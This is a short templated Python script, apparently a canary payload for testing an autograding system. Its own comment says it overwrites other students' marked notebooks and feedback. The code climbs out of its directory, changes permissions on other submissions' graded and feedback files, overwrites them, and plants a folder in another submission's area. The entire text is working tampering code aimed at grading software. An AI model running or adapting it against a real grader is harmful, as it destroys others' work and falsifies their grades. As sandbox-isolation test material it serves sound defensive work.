# how: overwrites others' marked notebooks and feedback
import os
from pathlib import Path

print("CANARY @NAME@", flush=True)
for path in [*Path("../../..").glob("autograded/s0001*/*/*"), *Path("../../..").glob("feedback/*/*/*")]:
    if "@STUDENT@" not in str(path):
        try:
            os.chmod(path, 0o644)
            path.write_text("LEFT @MARK@")
        except OSError as error:
            print(error)
folder = Path("../../../autograded/s0001-earlier/@MARK@")
folder.mkdir(parents=True, exist_ok=True)
